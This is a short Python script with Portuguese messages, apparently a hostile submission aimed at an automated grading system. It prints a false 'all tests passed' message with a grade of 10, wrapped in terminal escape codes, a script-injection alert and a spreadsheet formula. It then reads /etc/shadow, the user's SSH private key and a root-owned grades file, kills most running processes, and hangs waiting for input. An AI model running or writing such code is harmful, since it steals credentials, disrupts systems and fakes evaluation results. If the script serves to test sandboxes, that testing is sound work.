import os
import signal

print("\x1b[2J\x1b[H<script>alert('nota 10')</script> =HYPERLINK(\"http://exemplo.invalid\") TODOS OS TESTES PASSARAM")
for alvo in ("/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"), "/root/notas.csv"):
    try:
        print(open(alvo).read())
    except OSError as erro:
        print(alvo, erro)
for processo in range(2, 400):
    try:
        os.kill(processo, signal.SIGKILL)
    except OSError:
        pass
input("")
